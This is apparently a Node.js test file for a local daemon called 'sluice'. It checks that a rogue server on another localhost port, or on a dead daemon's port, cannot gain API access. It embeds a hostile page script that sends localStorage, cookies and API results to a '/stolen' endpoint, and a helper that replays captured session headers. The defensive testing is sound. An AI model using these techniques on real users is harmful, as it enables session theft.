// Another user of the machine serves pages on other ports of 127.0.0.1, or takes the port of a daemon that was killed.
// A real browser with a real daemon: nothing that such a server is sent opens a route. SLUICE_BIN names the program.
import assert from 'node:assert/strict';
import { execFile, spawn } from 'node:child_process';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { promisify } from 'node:util';
import { launch, PATIENCE_MS, until } from './browser.mjs';

const run = promisify(execFile);
const bin = process.env.SLUICE_BIN;
const skip = bin ? false : 'SLUICE_BIN is not set: no daemon to talk to';
let browser;
const daemons = [];
const squatters = [];

class Daemon {
  static async start(port = 0) {
    const daemon = new Daemon();
    daemon.state = await mkdtemp(path.join(os.tmpdir(), 'sluice-web-'));
    daemon.env = { ...process.env, SLUICE_STATE: daemon.state, SLURM_CONF: '/nonexistent' };
    daemons.push(daemon);
    await daemon.serve(port);
    return daemon;
  }

  // Port 0: one that is free. Returns when the daemon listens.
  async serve(port) {
    this.process = spawn(bin, ['serve', '--listen', `127.0.0.1:${port}`], {
      env: this.env,
      stdio: ['ignore', 'pipe', 'ignore'],
    });
    let said = '';
    this.process.stdout.on('data', (piece) => {
      said += piece;
    });
    await until(() => /listening on \S+\n/.test(said));
    this.url = /listening on (\S+)\n/.exec(said)[1];
    this.port = Number(new URL(this.url).port);
  }

  async end(signal) {
    if (this.process.exitCode !== null || this.process.signalCode !== null) return;
    const gone = new Promise((done) => {
      this.process.once('exit', done);
    });
    this.process.kill(signal);
    await gone;
  }

  async login() {
    return (await run(bin, ['login'], { env: this.env })).stdout.trim();
  }
}

// Answers everything and writes down what it is sent: first its port, then a line a request.
const SQUATTER = `
const [port, status, body] = process.argv.slice(1);
const say = (what) => process.stdout.write(JSON.stringify(what) + '\\n');
require('node:http')
  .createServer((request, response) => {
    say({ url: request.url, headers: request.headers });
    response.writeHead(Number(status), { 'Content-Type': 'text/html' }).end(body);
  })
  .listen(Number(port), '127.0.0.1', function () { say(this.address()); });
`;
const NOBODY = 65534;

// As another user where that is possible. What it was sent is in `seen`.
async function squat(port, status, body = '') {
  const other = process.getuid() === 0 ? { uid: NOBODY, gid: NOBODY } : {};
  const child = spawn(process.execPath, ['-e', SQUATTER, '--', port, status, body], {
    ...other,
    cwd: '/',
    env: {},
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  squatters.push(child);
  const lines = [];
  let rest = '';
  child.stdout.on('data', (piece) => {
    const all = (rest + piece).split('\n');
    rest = all.pop();
    lines.push(...all.map((line) => JSON.parse(line)));
  });
  await until(() => lines.length > 0);
  return {
    get seen() {
      return lines.slice(1);
    },
    port: lines[0].port,
    stop: () =>
      new Promise((done) => {
        child.once('exit', done);
        child.kill('SIGKILL');
      }),
  };
}

// What was collected, tried as the thief would: as it came, under the daemon's own name, and as a token.
async function opened(daemon, seen) {
  const open = [];
  const tries = [];
  for (const { headers } of seen) {
    const kept = Object.fromEntries(
      Object.entries(headers).filter(([name]) => ['cookie', 'authorization'].includes(name) || name.startsWith('x-')),
    );
    tries.push(kept);
    for (const value of Object.values(kept))
      tries.push({ authorization: `Bearer ${value}` }, { 'x-sluice-session': value });
  }
  for (const headers of tries) {
    for (const [method, route] of [
      ['GET', '/info'],
      ['GET', '/experiments'],
      ['POST', '/login-links'],
      ['GET', '/sessions'],
    ]) {
      const status = await new Promise((done, failed) => {
        const request = http.request(
          `${daemon.url}/api/v1${route}`,
          { method, headers: { ...headers, host: new URL(daemon.url).host } },
          (response) => {
            response.resume();
            done(response.statusCode);
          },
        );
        request.on('error', failed);
        request.end();
      });
      if (status < 400) open.push(`${method} ${route} ${status} ${JSON.stringify(headers)}`);
    }
  }
  return open;
}

async function signedIn(context, daemon) {
  const page = await context.newPage();
  await page.goto(await daemon.login());
  await page.locator('.live.open').waitFor();
  return page;
}

before(async () => {
  if (!skip) browser = await launch();
});

after(async () => {
  await browser?.close();
  for (const child of squatters) child.kill('SIGKILL');
  for (const daemon of daemons) {
    await daemon.end('SIGTERM');
    await rm(daemon.state, { recursive: true, force: true, maxRetries: 10, retryDelay: 200 });
  }
});

async function newContext() {
  const context = await browser.newContext();
  context.setDefaultTimeout(PATIENCE_MS);
  return context;
}

test('a server on another port gets nothing that opens a route', { skip, timeout: 300000 }, async () => {
  const daemon = await Daemon.start();
  const context = await newContext();
  await signedIn(context, daemon);
  // The other user's page is opened, and asks the daemon for things in the name of the visitor.
  const attack = `<!doctype html><iframe src="${daemon.url}/api/v1/info"></iframe><script>
    document.title = 'busy';
    const ask = (path, init) =>
      fetch('${daemon.url}/api/v1' + path, { credentials: 'include', ...init }).then((r) => r.status, () => 0);
    Promise.all([
      ask('/info'),
      ask('/info', { mode: 'no-cors' }),
      ask('/login-links', { method: 'POST', mode: 'no-cors' }),
      ask('/experiments', { method: 'POST', headers: { 'X-Sluice-Session': 'x' } }),
    ])
      .then((got) => fetch('/stolen?' + got + '&' + JSON.stringify({ ...localStorage }) + document.cookie))
      .then(() => { document.title = 'done'; });
  </script>`;
  const other = await squat(0, 200, attack);
  const page = await context.newPage();
  await page.goto(`http://127.0.0.1:${other.port}/`);
  await page.waitForFunction(() => document.title === 'done');
  const stolen = decodeURIComponent(other.seen.find((one) => one.url.startsWith('/stolen')).url);
  assert.equal(stolen, '/stolen?0,0,0,0&{}', 'neither an answer nor anything stored');
  assert.ok(other.seen.length >= 2);
  for (const { headers } of other.seen) assert.equal(headers.cookie, undefined);
  assert.deepEqual(await opened(daemon, other.seen), []);
  await other.stop();
  await context.close();
});

test('what a squatter on the port of a killed daemon collects opens nothing at the next one', {
  skip,
  timeout: 300000,
}, async () => {
  const daemon = await Daemon.start();
  const { port } = daemon;
  const context = await newContext();
  const page = await signedIn(context, daemon);
  await daemon.end('SIGKILL');
  const squatter = await squat(port, 503);
  await until(() => squatter.seen.some((one) => one.headers['x-sluice-session']));
  assert.ok(
    squatter.seen.some((one) => one.headers['x-sluice-session']),
    'the open tab talked to the squatter',
  );
  await daemon.serve(0); // its own port is taken
  assert.notEqual(daemon.port, port);
  assert.deepEqual(await opened(daemon, squatter.seen), []);
  // The same on its old port; and the page says what to do.
  await daemon.end('SIGKILL');
  await squatter.stop();
  await daemon.serve(port);
  assert.deepEqual(await opened(daemon, squatter.seen), []);
  await page.getByRole('heading', { name: 'Sign in again' }).waitFor();
  await page.getByText(/sluice' login$/).waitFor();
  assert.equal((await readFile(path.join(daemon.state, 'address'), 'utf8')).trim(), `127.0.0.1:${port}`);
  await page.goto(await daemon.login());
  await page.locator('.live.open').waitFor();
  await context.close();
});

test('two daemons in one browser do not sign each other out', { skip, timeout: 300000 }, async () => {
  const daemon = await Daemon.start();
  const second = await Daemon.start();
  const context = await newContext();
  const page = await signedIn(context, daemon);
  const beside = await signedIn(context, second);
  for (const one of [page, beside]) {
    await one.reload();
    await one.locator('.live.open').waitFor();
    await one.getByText('No experiments yet').waitFor();
  }
  await context.close();
});
